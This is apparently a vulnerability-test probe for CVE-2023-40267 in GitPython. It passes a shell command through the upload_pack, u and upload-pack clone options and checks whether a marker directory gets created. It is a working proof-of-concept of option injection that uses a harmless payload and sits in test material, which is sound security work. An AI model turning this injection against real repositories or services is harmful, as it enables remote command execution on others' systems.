# /// vertice-probe
# id = "PYSEC-2023-137"
# aliases = ["CVE-2023-40267", "GHSA-pr76-5cm5-w9cj"]
# package = "gitpython"
# summary = """\
#   Options that clone and clone_from take as keyword arguments are not checked, so an upload_pack or u among them \
#   runs a command."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-78"]
# kind = "rce"
# symbols = ["git.Repo.clone_from", "git.Repo.clone"]
#
# [[affected]]
# package = "gitpython"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "3.1.32" }] }]
#
# [cases]
# attack = "clone_from(u=…) runs a command that makes a marker"
# [cases.variants]
# upload_pack = "clone_from(upload_pack=…), the name git's option has in Python"
# method = "the clone method of a repository with the option's own name"
# [cases.controls]
# clone = "an ordinary repository is cloned with depth and branch as keyword arguments"
#
# [test]
# vulnerable = "3.1.31"
# fixed = "3.1.47"
# ///
"""CVE-2023-40267: unsafe git options as keyword arguments (claimed fixed in 3.1.32, where upload_pack= still works)."""

import json
import os
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")
COMMAND = "mkdir %s;false" % MARKER


def prepare():
    """GitPython, a repository with one commit, and a folder that does not exist yet."""
    os.environ.update(GIT_CONFIG_GLOBAL=os.devnull, GIT_CONFIG_NOSYSTEM="1", HOME=BASE)
    for name in ("AUTHOR", "COMMITTER"):
        os.environ["GIT_%s_NAME" % name] = "probe"
        os.environ["GIT_%s_EMAIL" % name] = "probe@example.org"
    import git

    source = git.Repo.init(os.path.join(BASE, "source"))
    with open(os.path.join(BASE, "source", "note.txt"), "w") as stream:
        stream.write("hello")
    source.index.add(["note.txt"])
    source.index.commit("first")
    return git, source, os.path.join(BASE, "target")


def judge(run):
    git, source, target = prepare()
    # before 3.1.30 there is no such exception, and nothing to refuse with
    refusals = tuple(
        getattr(git.exc, name) for name in ("UnsafeOptionError", "UnsafeProtocolError") if hasattr(git.exc, name)
    )
    refusal = None
    try:
        run(git, source, target)
    except refusals as error:
        refusal = "%s: %s" % (type(error).__name__, str(error).split(",")[0])
    except git.GitCommandError as error:
        failed = str(error)  # the command is no git server; the marker tells whether it ran
    else:
        failed = "git succeeded"
    if os.path.isdir(MARKER):
        return "exploited", "git ran the command and the marker was made"
    if refusal:
        return "blocked", refusal
    raise RuntimeError("neither run nor refused: %s" % failed[-200:])


def attack():
    return judge(lambda git, source, target: git.Repo.clone_from("file://" + source.working_dir, target, u=COMMAND))


def upload_pack():
    return judge(
        lambda git, source, target: git.Repo.clone_from("file://" + source.working_dir, target, upload_pack=COMMAND)
    )


def method():
    return judge(lambda git, source, target: source.clone(target, **{"upload-pack": COMMAND}))


def clone():
    git, source, target = prepare()
    branch = source.active_branch.name
    copy = git.Repo.clone_from("file://" + source.working_dir, target, depth=1, branch=branch)
    names = sorted(os.listdir(target))
    good = names == [".git", "note.txt"] and copy.active_branch.name == branch
    return ("works" if good else "broken"), "cloned: %s" % names


CASES = {"attack": attack, "upload_pack": upload_pack, "method": method, "clone": clone}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
